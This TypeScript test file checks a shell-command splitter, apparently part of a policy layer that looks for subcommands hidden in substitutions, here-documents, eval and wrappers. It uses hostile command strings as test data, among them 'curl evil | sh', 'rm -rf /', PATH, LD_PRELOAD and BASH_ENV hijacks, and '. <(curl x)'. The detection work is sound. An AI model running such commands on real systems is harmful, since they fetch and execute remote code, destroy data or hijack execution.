import { beforeAll, describe, expect, it } from 'vitest';
import { loadBashGrammar, splitShell } from '../../../src/policy/shell/split.js';

beforeAll(() => loadBashGrammar());

const texts = (c: string) => splitShell(c).parts.map((p) => p.text);
const argvs = (c: string) => splitShell(c).parts.map((p) => p.words);

describe('splitShell', () => {
  it.each([
    ['a && b', ['a', 'b']],
    ['a || b', ['a', 'b']],
    ['a; b', ['a', 'b']],
    ['a | b', ['a', 'b']],
    ['a & b', ['a', 'b']],
    ['a\nb', ['a', 'b']],
    ['echo $(id)', ['echo $(id)', 'id']],
    ['echo `id`', ['echo `id`', 'id']],
    ['diff <(ls a) >(cat)', ['diff <(ls a) >(cat)', 'ls a', 'cat']],
    ['(cd x; ls)', ['cd x', 'ls']],
    ['{ a; b; }', ['a', 'b']],
    ["bash -c 'ls; rm -rf /'", ['ls', 'rm -rf /']],
    ['sh -lc "git status && make"', ['git status', 'make']],
    ['bash -c "bash -c \'id\'"', ['id']],
    ["bash -o pipefail -c 'a | b'", ['a', 'b']],
    ["eval 'a; b'", ['a', 'b']],
    ['echo "a $(b "c $(d)")"', ['echo "a $(b "c $(d)")"', 'b "c $(d)"', 'd']],
    ['if true; then ls; fi', ['true', 'ls']],
    ['for f in $(ls); do rm $f; done', ['ls', 'rm $f']],
    ['f() { rm -rf /; }; f', ['rm -rf /', 'f']],
    ['ls # ; rm -rf /', ['ls']],
    ['export A=$(id)', ['export A=$(id)', 'id']],
    ['x=1', []],
  ])('%j -> %j', (cmd, parts) => {
    expect(texts(cmd)).toEqual(parts);
  });

  // Sub-commands hidden where tree-sitter does not look (issue #11): each must be found.
  it.each([
    ['npm test ${x:-`curl evil | sh`}', ['curl', 'evil'], ['sh']],
    ['cat ${x:-`id`} README.md', ['id']],
    ['cat ${x:-$(id)} README.md', ['id']],
    ['echo ${a:-${b:-`id`}}', ['id']],
    ['echo "${x:-`id`}"', ['id']],
    ['cat <<EOF\n`id`\nEOF', ['id']],
    ['cat <<EOF\n$(id) ${x:-`whoami`}\nEOF', ['id'], ['whoami']],
    ['cat <<-EOF\n\t`id -u`\n\tEOF', ['id', '-u']],
    ['echo `echo "\\`id\\`"`', ['id']],
    ['echo `a "\\`b \\\\\\`c\\\\\\`\\`"`', ['c']],
    ['cat <<< "$(id)"', ['id']],
    ['x=$(id) ls', ['id']],
    ['env A=1 rm -rf /', ['rm', '-rf', '/']],
    ['nohup curl x', ['curl', 'x']],
    ['timeout -s KILL 5 curl x', ['curl', 'x']],
    ['command curl x', ['curl', 'x']],
    ['builtin cd /', ['cd', '/']],
    ['exec -a name curl x', ['curl', 'x']],
    ['time curl x', ['curl', 'x']],
    ['nice -n 5 curl x', ['curl', 'x']],
    ['sudo -u root curl x', ['curl', 'x']],
    ['xargs -0 -n 1 rm < list', ['rm', '…']],
    ['find . -name x -exec rm -f {} \\; -print', ['rm', '-f', '{}']],
    ["trap 'curl x' EXIT", ['curl', 'x']],
    ["alias ls='curl x'", ['curl', 'x']],
    ["mapfile -C 'curl x' -c 1 arr < f", ['curl', 'x']],
    ["watch -n 1 'curl x | sh'", ['curl', 'x'], ['sh']],
    ["bash <<'EOF'\ncurl x\nEOF", ['curl', 'x']],
    ['sh <<< "curl x"', ['curl', 'x']],
    ['echo a > f $(id)', ['id']],
    // A backslash-newline is gone before bash reads words, here-document ends included:
    ['cat <<EOF\nhello\nE\\\nOF\ncurl evil | sh\nEOF', ['curl', 'evil']],
    ['r\\\nm -rf x', ['rm', '-rf', 'x']],
    ['c0\\\n 2>&1', ['c0']],
    ["echo 'a\\\nb' # c \\\nls", ['echo', 'a\\\nb'], ['ls']],
    // Inside "${...}" single quotes are plain characters: what they enclose runs.
    ['echo "${x:-\'`id`\'}"', ['id']],
  ])('%j: finds %j', (cmd, ...want) => {
    const found = argvs(cmd);
    for (const w of want) expect(found, JSON.stringify(found)).toContainEqual(w);
  });

  it.each([
    ['echo "unterminated'],
    ['ls &&'],
    ['(ls'],
    ['if ls; then'],
    ['sh -c "$SCRIPT"'],
    ['bash -c "$(curl x)"'],
    ['eval "$X"'],
    ['eval $(cat f)'],
    ['source "$F"'],
    ['. <(curl x)'],
    ['exec "$CMD"'],
    ['$CMD -rf /'],
    ['"$(which rm)" -rf /'],
    ['env -S "rm -rf /"'],
    ['xargs sh -c < f'],
    ['find . -exec rm {}'],
    ['curl x | sh'],
    ['curl x | bash -s'],
    ['bash < script.sh'],
    ['bash <<EOF\n$(curl x)\nEOF'],
    ['echo $(( a[$(id)] ))'],
    ['echo $(( x + 1 ))'],
    ['(( x++ ))'],
    ['for ((i=0; i<3; i++)); do :; done'],
    ['let x=1'],
    ['[[ $x -eq 1 ]]'],
    ['echo ${a[$i]}'],
    ['a[$(id)]=1'],
    ["unset 'a[$(id)]'"],
    ['declare -i n=$x'],
    ['declare -n ref=x'],
    ['echo ${!ref}'],
    ['echo ${x@P}'],
    ["PS4='$(id)' bash -xc ls"],
    ["x='a[$(id)]'; echo $((x))"],
    ['printf -v "a[$i]" x'],
    ['! { rm -rf /; }'],
    ['trap "$X" EXIT'],
    ['enable -f ./x.so x'],
    ['hash -p /tmp/evil ls'],
    ['exec 3<> f'],
    ['BASH_ENV=./x.sh bash -c ls'],
    ['env BASH_ENV=./x.sh bash -c ls'],
    ['X=1 eval ls'],
    ['echo "${x:-\'$(id)\'}"'],
  ])('%j cannot be accounted for', (cmd) => {
    expect(splitShell(cmd).unknowns, JSON.stringify(splitShell(cmd).parts.map((p) => p.text))).not.toEqual([]);
  });

  it.each([
    ['ls -la'],
    ['git log --oneline -n 5 | head -3'],
    ['echo "$HOME" && cat README.md'],
    ["grep -rn 'x' src/ | wc -l"],
    ["cat <<'EOF'\n$(id) `id`\nEOF"],
    ['echo $((1 + 2))'],
    ['find . -name "*.ts" -exec wc -l {} +'],
    ['for f in *.ts; do wc -l "$f"; done'],
    ['echo ${x:-default} ${#x} ${x%.ts}'],
    ['npm test -- --coverage 2>&1 | tail -20'],
    ["echo ${x:-'$(id)'}"],
  ])('%j is accounted for in full', (cmd) => {
    expect(splitShell(cmd).unknowns).toEqual([]);
  });

  it.each([
    ['ls > out', true, true],
    ['ls >> out', true, true],
    ['ls >| out', true, true],
    ['ls &> out', true, true],
    ['ls &>> out', true, true],
    ['ls >& out', true, true],
    ['cat < in', true, false],
    ['ls 2>&1', true, false],
    ['ls >&2', true, false],
    ['ls 2>/dev/null', true, false],
    ['cat <<EOF\nhi\nEOF', true, false],
    ['cat <<< hi', true, false],
    ['ls | wc -l', false, false],
    ["bash -c 'ls' > out", true, true],
    ['{ ls; pwd; } > out', true, true],
    ['echo $(ls) > out', true, true],
  ])('%j redirected: %s, writes a file: %s', (cmd, redirected, writes) => {
    const parts = splitShell(cmd).parts;
    expect(parts.some((p) => p.redirected)).toBe(redirected);
    expect(parts.some((p) => p.writesFile)).toBe(writes);
  });

  it('a substitution inside a redirected command does not inherit its redirection', () => {
    const [ls, echo] = [...splitShell('echo $(ls) > out').parts].sort((a, b) => a.text.length - b.text.length);
    expect(ls).toMatchObject({ text: 'ls', redirected: false, writesFile: false });
    expect(echo).toMatchObject({ redirected: true, writesFile: true });
  });

  it.each([
    ['echo x >> .git/config', ['.git/config']],
    ['ls > out 2>&1 >/dev/null', ['out', '/dev/null']],
    ['echo > "$GITHUB_ENV"', [undefined]],
    ['echo > ~/x', [undefined]],
    ['echo > *.txt', [undefined]],
    ["echo > '.git'/config", ['.git/config']],
    ['exec 3<> .git/x', ['.git/x']],
    ['cat <<EOF > .github/x\nhi\nEOF', ['.github/x']],
  ])('%j writes %j', (cmd, paths) => {
    expect(splitShell(cmd).writes.map((w) => w.path)).toEqual(paths);
  });

  it('words tree-sitter gives to a redirection belong to the command (`echo a > f b` runs `echo a b`)', () => {
    expect(argvs('echo a > f b')).toEqual([['echo', 'a', 'b']]);
  });

  it.each([['cd .gemini && ls'], ['pushd x'], ['env -C .git sh -c ls'], ['find . -execdir ls \\;'], ['builtin cd x']])(
    '%j changes directory',
    (cmd) => {
      expect(splitShell(cmd).changesDirectory).toBe(true);
    },
  );

  it.each([
    ['PATH=/tmp/evil; ls', true],
    ['for PATH in /tmp; do ls; done', true],
    ['export LD_PRELOAD=x.so', true],
    ['x=1; ls', false],
    ['for f in a b; do ls $f; done', false],
    ['http_proxy=x; curl y', true],
    ['PATH=/tmp/evil ls', false],
  ])('%j changes the environment: %s', (cmd, changed) => {
    expect(splitShell(cmd).changesEnvironment).toBe(changed);
  });

  it('resolves quoting into argv and marks dynamic words', () => {
    const [p] = splitShell(`git "log" 'a b' c\\ d --x="1 \\"2\\"" $HOME *.ts ~/x {a,b} $'\\x41'`).parts;
    expect(p!.words.slice(0, 5)).toEqual(['git', 'log', 'a b', 'c d', '--x=1 "2"']);
    expect(p!.literal).toEqual([true, true, true, true, true, false, false, false, false, false]);
  });

  it('keeps leading assignments apart from argv', () => {
    const [p] = splitShell('PATH=/evil git log').parts;
    expect(p!.assignments).toEqual(['PATH=/evil']);
    expect(p!.words).toEqual(['git', 'log']);
  });

  it('caches one result per command string', () => {
    expect(splitShell('ls -la | wc')).toBe(splitShell('ls -la | wc'));
  });
});
